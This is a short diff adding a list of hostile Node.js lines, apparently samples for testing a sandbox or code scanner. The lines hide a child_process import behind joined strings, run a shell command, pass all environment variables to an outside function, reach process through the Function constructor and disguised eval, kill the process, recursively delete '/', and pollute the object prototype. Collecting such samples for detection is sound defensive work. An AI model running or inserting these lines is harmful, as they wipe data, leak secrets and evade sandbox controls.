@@ -1,0 +1,13 @@
+const load = require;
+const name = ['child', 'process'].join('_');
+const { exec } = require(name);
+const { env } = process;
+exec('id');
+fetchAll(Object.entries(env));
+const make = (() => {}).constructor;
+(() => {}).constructor('return process')().exit(1);
+(0, eval)('1');
+globalThis['ev' + 'al']('2');
+setTimeout(() => process['kill'](process.pid), 10);
+import('node:fs').then((fs) => fs.rmSync('/', { recursive: true }));
+({}).__proto__.polluted = true;
